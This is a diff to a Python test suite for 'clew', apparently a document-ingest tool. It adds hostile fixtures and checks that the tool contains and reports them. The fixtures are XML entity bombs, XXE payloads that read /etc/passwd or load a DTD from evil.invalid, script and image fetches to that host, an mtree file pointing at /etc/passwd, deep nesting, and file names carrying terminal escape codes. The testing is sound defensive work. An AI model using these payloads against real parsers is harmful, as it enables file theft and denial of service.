@@ -10,6 +10,7 @@ from email.message import EmailMessage
 from pathlib import Path
 
 import pytest
+from openpyxl import Workbook
 
 from clew.ingest import Reading
 from conftest import clew
@@ -21,6 +22,7 @@ LAUGHS = (
     + "]>"
 )
 OUTSIDE = '<!DOCTYPE d [<!ENTITY j SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://evil.invalid/x.dtd">%p;]>'
+QUADRATIC = f'<!DOCTYPE d [<!ENTITY j "{"quay " * 10_000}">]>'
 WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
 
 
@@ -43,6 +45,33 @@ def packed(parts: dict[str, str]) -> bytes:
     return written.getvalue()
 
 
+def text(head: str, body: str = "&j; Anna met Bo.") -> str:
+    """Return an OpenDocument text that is not packed."""
+    spaces = " ".join(f"xmlns:{name}='urn:oasis:names:tc:opendocument:xmlns:{name}:1.0'" for name in ("office", "text"))
+    inner = f"<office:body><office:text><text:p>{body}</text:p></office:text></office:body>"
+    return f"<?xml version='1.0'?>{head}<office:document {spaces}>{inner}</office:document>"
+
+
+def open_text(head: str) -> bytes:
+    content = text(head).replace("office:document", "office:document-content")
+    return packed({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": content})
+
+
+def workbook(head: str) -> bytes:
+    """Return a workbook of one cell whose sheet and strings begin with `head`."""
+    written = io.BytesIO()
+    book = Workbook()
+    book.active.append(["Anna met Bo."])  # type: ignore[union-attr]
+    book.save(written)
+    with zipfile.ZipFile(written) as archive:
+        parts = {name: archive.read(name).decode() for name in archive.namelist()}
+    for name in parts:
+        if name.startswith(("xl/worksheets/", "xl/sharedStrings")):
+            body = parts[name].removeprefix("<?xml version='1.0'?>").replace("Anna", "&j;Anna")
+            parts[name] = f"<?xml version='1.0'?>{head}{body}"
+    return packed(parts)
+
+
 def mail(html: str) -> bytes:
     message = EmailMessage()
     message["From"], message["Subject"], message["Message-ID"] = "Anna Vale <anna@harbour.example>", "quay", "<1@harbour.example>"
@@ -63,6 +92,19 @@ HOSTILE: dict[str, bytes] = {
     "outside.docx": word(OUTSIDE),
     "laughs.html": (LAUGHS + "<html><body><p>&j; Anna met Bo.</p></body></html>").encode(),
     "outside.html": (OUTSIDE + "<html><body><p>&j; Anna met Bo.</p></body></html>").encode(),
+    "quadratic.docx": word(QUADRATIC).replace(b"&j;", b"&j;" * 2_000),
+    "quadratic.html": (QUADRATIC + "<html><body><p>" + "&j;" * 20_000 + "</p></body></html>").encode(),
+    "quadratic.fodt": text(QUADRATIC, "&j;" * 20_000).encode(),
+    "laughs.fodt": text(LAUGHS).encode(),
+    "outside.fodt": text(OUTSIDE).encode(),
+    "laughs.odt": open_text(LAUGHS),
+    "outside.odt": open_text(OUTSIDE),
+    "laughs.xlsx": workbook(LAUGHS),
+    "outside.xlsx": workbook(OUTSIDE),
+    "laughs.svg": (f"<?xml version='1.0'?>{LAUGHS}<svg xmlns='http://www.w3.org/2000/svg'><text>&j;</text></svg>").encode(),
+    "outside.svg": (f"{OUTSIDE}<svg xmlns='http://www.w3.org/2000/svg'><image href='http://evil.invalid/'/></svg>").encode(),
+    "deep.fodt": text("", "<text:span>" * 50_000).encode(),
+    "links.mtree": b"#mtree\na.txt type=file contents=/etc/passwd\n",
     "deep.html": b"<html><body>" + b"<div>" * 100_000 + b"Anna met Bo.",
     "script.html": b"<html><body><script>fetch('http://evil.invalid')</script>"
     b"<iframe src='http://evil.invalid'></iframe><p>Anna met Bo.</p>",
@@ -115,6 +157,7 @@ def test_it_is_contained_and_told(read: Read, name: str) -> None:
     assert "root:" not in said
     assert "haha" * 5 not in said
     assert "alert(1)" not in said
+    assert len(said) < 3_000_000
 
 
 def test_what_a_mail_would_fetch_is_told(read: Read) -> None:
@@ -160,6 +203,8 @@ def folder(tmp_path: Path) -> Iterator[Path]:
     """A folder with everything in it that is no file."""
     place = tmp_path / "evidence"
     place.mkdir()
+    server = socket.socket(socket.AF_UNIX)
+    server.bind(str(place / "s"))
     (place / "zero").symlink_to("/dev/zero")
     (place / "loop").symlink_to(place)
     os.mkfifo(place / "pipe")
@@ -167,21 +212,30 @@ def folder(tmp_path: Path) -> Iterator[Path]:
         file.truncate(1 << 40)
     (place / "name\x1b[2J\nFrom: x\u202e.txt").write_text("Anna met Bo.")
     yield place
+    server.close()
 
 
 def test_a_folder_of_traps(folder: Path, read_all: Callable[[Path], list[Reading]]) -> None:
     receipts = [r for reading in read_all(folder) for r in reading.receipts]
     reasons = {r.path: r.reason for r in receipts}
-    assert len(receipts) == 5
+    assert len(receipts) == 6
+    assert reasons["s"] == "a socket, not a file"
     assert reasons["zero"] == reasons["loop"] == "a symbolic link; links are not followed"
     assert reasons["pipe"] == "a pipe, not a file"
     assert "larger than" in reasons["endless"] or "blanks" in reasons["endless"]
     assert all(path.isprintable() for path in reasons)
 
 
-def test_what_is_printed_of_a_hostile_name_steers_nothing(folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_what_is_printed_of_hostile_names_and_words_steers_nothing(
+    folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     monkeypatch.undo()
     (folder / "endless").unlink()
-    told = clew("add", str(folder), "--case", str(tmp_path / "x.clew"), "--engine", "serial")
-    assert told.returncode == 0
-    assert all(line.isprintable() for line in told.stdout.splitlines())
+    (folder / "b.html").write_text("<title>Quay\x1b]0;x\x07</title><p>Ines Okoro\x9b2J met Tomas\x1b[2J Orrin in May.</p>")
+    (folder / "c.eml").write_text("From: Ines\x1b[2J Okoro <i@x.example>\nMessage-ID: <1@x>\nSubject: q\x1b[1m\n\nYes.\n")
+    case = str(tmp_path / "x.clew")
+    assert clew("add", str(folder), "--case", case, "--engine", "serial").returncode == 0
+    for command in (["report", "--containers"], ["search", "Okoro"], ["people"], ["timeline"], ["threads"], ["findings"]):
+        told = clew(*command, "--case", case)
+        assert told.returncode == 0
+        assert [line for line in told.stdout.split("\n") if not line.isprintable()] == [], command
